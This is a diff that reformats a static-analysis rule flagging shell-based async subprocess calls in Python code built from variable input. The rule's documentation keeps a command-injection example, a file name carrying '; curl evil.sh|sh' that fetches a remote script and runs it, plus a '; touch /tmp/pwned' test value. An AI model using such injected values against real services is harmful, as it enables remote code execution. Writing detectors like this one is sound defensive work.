@@ -24,10 +24,13 @@ export default defineRule({
       computed: '`{{fn}}` runs a command held in a variable through a shell; check it contains no user input.',
     },
     docs: {
-      whatItDoes: 'Flags `asyncio.create_subprocess_shell` and `loop.subprocess_shell` when the command is not a constant string.',
-      whyBad: 'Both hand the command to `/bin/sh`; interpolated values can carry `;`, `|` or `$()` and run extra commands. Async services often build these commands from request data.',
+      whatItDoes:
+        'Flags `asyncio.create_subprocess_shell` and `loop.subprocess_shell` when the command is not a constant string.',
+      whyBad:
+        'Both hand the command to `/bin/sh`; interpolated values can carry `;`, `|` or `$()` and run extra commands. Async services often build these commands from request data.',
       businessImpact: 'Remote code execution inside the async service, usually an internet-facing API.',
-      attackScenario: 'An aiohttp handler awaits `create_subprocess_shell(f"convert {name} out.png")` with a user file name `a.png; curl evil.sh|sh`.',
+      attackScenario:
+        'An aiohttp handler awaits `create_subprocess_shell(f"convert {name} out.png")` with a user file name `a.png; curl evil.sh|sh`.',
       example: 'await asyncio.create_subprocess_shell(f"convert {name} out.png")',
       useInstead: 'await asyncio.create_subprocess_exec("convert", "--", name, "out.png")',
       testing: 'Await the handler with a value containing `; touch /tmp/pwned` and assert the file is not created.',
@@ -43,7 +46,8 @@ export default defineRule({
     const quoted = safeCallFor(['command'], (node) => ctx.qualifiedName(node));
     const check = (index: number) => (call: CallInfo) => {
       const command = call.argOrKwarg(index, 'cmd');
-      if (!command || ctx.staticString(command) !== undefined || isLiteralComposed(command, { safeCall: quoted })) return;
+      if (!command || ctx.staticString(command) !== undefined || isLiteralComposed(command, { safeCall: quoted }))
+        return;
       const formatted = isFormattedString(ctx, command);
       ctx.report({
         node: call.node,
